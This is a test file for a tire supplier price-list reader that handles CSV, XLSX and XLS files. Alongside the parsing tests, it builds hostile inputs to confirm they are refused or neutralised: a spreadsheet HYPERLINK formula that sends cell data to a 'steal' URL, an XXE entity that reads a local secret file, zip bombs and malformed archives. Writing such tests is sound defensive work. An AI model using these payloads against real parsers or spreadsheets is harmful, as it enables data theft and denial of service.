import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test } from 'vitest';
import {
  ENGLISH_SHEETS,
  frenchCsv,
  MONTREAL,
  otherWorkbook,
  xlsx,
  type Cells,
} from '../../../tests/support/supplier-lists.ts';
import { unzip, zip } from '../../../tests/support/zip-parts.ts';
import type { ListedTire } from '#src/features/suppliers/listed-tire.private.server.ts';
import { readPriceList } from './read-list.server.ts';
import { readListFile } from './list-file.server.ts';
import { mappingFrom, type Mapping } from './mapping.server.ts';

const montreal = mappingFrom({
  supplier: 'mtl',
  stockPlaces: 'warehouses',
  columns: {
    sku: 'No article',
    brand: 'marque',
    pattern: 'Modele',
    width: 'Largeur',
    ratio: 'Rapport',
    rim: 'Jante',
    loadIndex: 'Charge',
    speedRating: 'Vitesse',
    season: 'Saison',
    barcode: 'CUP',
    cost: 'Coûtant',
    msrp: 'PDSF',
    stock: ['Qté Montréal', 'Qté Québec', 'Qté Ottawa'],
  },
});
const english = mappingFrom({
  columns: {
    sku: 'Part Number',
    brand: 'Brand',
    pattern: 'Pattern',
    size: 'Size',
    loadSpeed: 'Service',
    season: 'Season',
    cost: 'Dealer Price',
    msrp: 'MSRP',
    stock: ['In stock'],
  },
});

async function rowsOf(bytes: Buffer, mapping: Mapping, sheet?: string) {
  const list = await readListFile({ file: 'list', bytes, sheet });
  const { rows, rejected } = await readPriceList(list, mapping);
  return { rows, rejected, list };
}
const title = ({ sku, brand, pattern, type, size, cost, msrp, count }: ListedTire) =>
  [sku, brand, pattern, type, `${size!.width}/${size!.profile}/${size!.rim}`, cost, msrp, count].join(' | ');

test('a French list in Windows-1252, with lines above the header and the size in three columns, and the same as XLSX and XLS', async () => {
  const csv = await rowsOf(frenchCsv(MONTREAL), montreal);
  expect(csv.rejected).toEqual([]);
  expect(csv.rows.map(title)).toEqual([
    'mtl-10234 | Toyo | Observe GSi-6 | wintertires | 225/65/17 | 128.40 | 189.99 | 20',
    'mtl-10235 | Nokian | Hakkapeliitta R5 | wintertires | 205/55/16 | 1028.40 | 1389.99 | 26',
    'mtl-10240 | Michelin | Primacy Tour A/S | allseasontires | 235/55/19 | 201.10 | 289.00 | 10',
    'mtl-10241 | Pirelli | P Zéro | summertires | 245/40/18 | 244.95 | 349.95 | 14',
    'mtl-10242 | Toyo | Open Country A/T III | allterraintires | 265/70/17 | 219.00 | 310.00 | 18',
  ]);
  expect(csv.rows[1]).toMatchObject({ loadIndex: '94', speedRating: 'R', barcode: '6419440212340' });
  for (const bytes of [
    await xlsx({ Liste: MONTREAL }),
    otherWorkbook({ Liste: MONTREAL }, 'xlsx'),
    otherWorkbook({ Liste: MONTREAL }, 'biff8'),
  ])
    expect((await rowsOf(bytes, montreal)).rows).toEqual(csv.rows);
});

test('of several sheets the largest is read, or the one that is named', async () => {
  for (const bytes of [await xlsx(ENGLISH_SHEETS), otherWorkbook(ENGLISH_SHEETS, 'biff8')]) {
    const { rows, list } = await rowsOf(bytes, english);
    expect([list.sheet, list.sheets]).toEqual(['Price list', ['Terms', 'Price list', 'Old']]);
    expect(rows.map(title)).toEqual([
      'T-1 | Toyo | Celsius II | allweathertires | 225/65/17 | 96.10 | 150.00 | 4',
      'T-2 | Toyo | Celsius II | allweathertires | 205/55/16 | 84.33 | 129.50 | 0',
      'T-3 | Nitto | Ridge Grappler | allterraintires | 285/75/18 | 232.13 |  | 4',
    ]);
    await expect(rowsOf(bytes, english, 'old')).rejects.toThrow('list has no column "Brand". It has: "Part Number"');
    await expect(rowsOf(bytes, english, 'New')).rejects.toThrow(
      'list has no sheet "New". It has: "Terms", "Price list", "Old".',
    );
  }
});

test('a rejected row has the number that a spreadsheet program shows', async () => {
  const sheet: Cells = [
    ...ENGLISH_SHEETS['Price list']!,
    [],
    ['T-4', 'Toyo', 'Celsius II', 'none', '', 'Winter', 'CALL'],
  ];
  const reasons = ['the size is missing', 'cost is "CALL", not an amount'];
  const { rejected } = await rowsOf(await xlsx({ List: sheet }), english);
  expect(rejected).toEqual([{ line: 6, item: 'T-4', reasons }]);
});

test('a formula is the value that is stored with it', async () => {
  const bytes = otherWorkbook({ List: ENGLISH_SHEETS['Price list']! }, 'xlsx');
  const { read, write } = await import('@e965/xlsx');
  const book = read(bytes);
  Object.assign(book.Sheets.List!, { G2: { t: 'n', v: 101.5, f: 'HYPERLINK("https://example.com/steal?"&A2)' } });
  const { rows } = await rowsOf(write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer, english);
  expect(rows[0]!.cost).toBe('101.50');
});

test('a workbook’s XML names no other file, and its entities stand for nothing', async () => {
  const secret = path.join(mkdtempSync(path.join(tmpdir(), 'entities-')), 'secret');
  writeFileSync(secret, 'TOP-SECRET');
  const parts = unzip(await xlsx(ENGLISH_SHEETS));
  const hostile = (xml: string) =>
    xml
      .replace('?>', `?><!DOCTYPE x [<!ENTITY file SYSTEM "file://${secret}"><!ENTITY twice "&file;&file;">]>`)
      .replaceAll('Celsius II', '&file;&twice;');
  for (const [name, content] of Object.entries(parts)) parts[name] = Buffer.from(hostile(content.toString()));
  const list = await readListFile({ file: 'list.xlsx', bytes: zip(parts), sheet: 'Price list' });
  const cells = list.records.flatMap((record) => record.cells);
  expect(cells).toContain('Toyo');
  expect(cells.join(' ')).not.toMatch(/TOP-SECRET|Celsius/);
});

test('an archive that unpacks to more than fits is refused before it is read, whatever size it states', async () => {
  const large = Buffer.alloc(60 * 1024 * 1024, 32);
  const sheets = Object.fromEntries([1, 2, 3, 4].map((n) => [`xl/worksheets/sheet${n}.xml`, large]));
  const texts = { 'xl/sharedStrings.xml': large };
  for (const [parts, stated] of [[texts], [texts, 100], [sheets]] as const)
    await expect(readListFile({ file: 'list.xlsx', bytes: zip(parts, stated) })).rejects.toThrow(
      'list.xlsx unpacks to more than a price list can hold. Save it as CSV and try again.',
    );
});

test('an archive with a part that cannot be unpacked is refused before it is read', async () => {
  const bytes = zip({ 'xl/workbook.xml': Buffer.from('<workbook>'.repeat(50)) });
  bytes.fill(0xff, 30 + 'xl/workbook.xml'.length, 40 + 'xl/workbook.xml'.length);
  await expect(readListFile({ file: 'list.xlsx', bytes })).rejects.toThrow(
    'list.xlsx is damaged: it cannot be unpacked. Open it, save it as XLSX and try again.',
  );
});

test.each([
  ['content.xml', 'an OpenDocument spreadsheet (ODS)'],
  ['xl/workbook.bin', 'a binary workbook (XLSB)'],
  ['Index/Document.iwa', 'a Numbers document'],
])('a file with %s is called %s', async (part, kind) => {
  const bytes = zip({ [part]: Buffer.from('<x/>') });
  await expect(readListFile({ file: 'list', bytes })).rejects.toThrow(
    `list is ${kind}. Save it as XLSX and try again.`,
  );
});

test('an XLS that is protected by a password is called so', async () => {
  const bytes = otherWorkbook(ENGLISH_SHEETS, 'biff8');
  const start = bytes.indexOf(Buffer.from('0908100000060500', 'hex'));
  bytes.writeUInt16LE(0x2f, start + 20);
  await expect(readListFile({ file: 'list.xls', bytes })).rejects.toThrow('list.xls is protected by a password.');
});

test('a sheet with more merged cells than a list has is refused', async () => {
  const merged = (count: number) =>
    zip({ 'xl/worksheets/sheet1.xml': Buffer.from('<mergeCell ref="A1:A2"/>'.repeat(count)) });
  await expect(readListFile({ file: 'list.xlsx', bytes: merged(100_001) })).rejects.toThrow('too many merged cells');
});

test.each(['xlsx', 'biff8'] as const)(
  'a cell that is merged downwards counts in each of its rows (%s)',
  async (bookType) => {
    const { utils, write } = await import('@e965/xlsx');
    const [header, ...tires] = ENGLISH_SHEETS['Price list']!;
    const sheet = utils.aoa_to_sheet([
      ['All prices in CAD'],
      header!,
      tires[0]!,
      tires[1]!.map((cell, at) => (at === 1 || at === 2 ? null : cell)), // brand and pattern are merged with the row above
      [], // a row between two groups
      tires[2]!.map((cell, at) => (at === 2 ? null : cell)), // only blank, not merged
    ]);
    const merge = (column: number, from: number, to: number) => ({
      s: { r: from, c: column },
      e: { r: to, c: column },
    });
    sheet['!merges'] = [merge(1, 2, 4), merge(2, 2, 3), { s: { r: 0, c: 0 }, e: { r: 0, c: 8 } }];
    const book = utils.book_new();
    utils.book_append_sheet(book, sheet, 'List');
    const { rows, rejected } = await rowsOf(write(book, { type: 'buffer', bookType }) as Buffer, english);
    expect(rows.map(({ brand, pattern }) => `${brand} ${pattern}`)).toEqual(['Toyo Celsius II', 'Toyo Celsius II']);
    expect(rejected).toEqual([{ line: 6, item: 'T-3', reasons: [expect.stringContaining('pattern')] }]);
  },
);

test('a sheet whose rows reach to the last column is refused', async () => {
  const sheet = Buffer.from('<worksheet><sheetData><row r="1"><c r="XFD1"><v>1</v></c></row></sheetData></worksheet>');
  const bytes = zip({ 'xl/worksheets/sheet1.xml': sheet });
  await expect(readListFile({ file: 'list.xlsx', bytes })).rejects.toThrow(
    'list.xlsx has a sheet with more than 702 columns.',
  );
});

test.each<[string, () => Promise<Buffer>]>([
  ['the first half of an XLSX', async () => (await xlsx(ENGLISH_SHEETS)).subarray(0, 2_000)],
  ['the first half of an XLS', async () => otherWorkbook(ENGLISH_SHEETS, 'biff8').subarray(0, 3_000)],
  ['a ZIP of pictures', async () => zip({ 'a.png': Buffer.from('PNG') })],
  ['an XLSX that only begins like one', async () => Buffer.from('PK\u0003\u0004rest')],
  ['an XLS that only begins like one', async () => Buffer.from('d0cf11e0a1b11ae1', 'hex')],
])('%s ends in one sentence', async (_, bytes) => {
  await expect(readListFile({ file: 'list', bytes: await bytes() })).rejects.toThrow(
    /^list is damaged[^\n]*again\.$|^list has no sheet\.$/,
  );
});
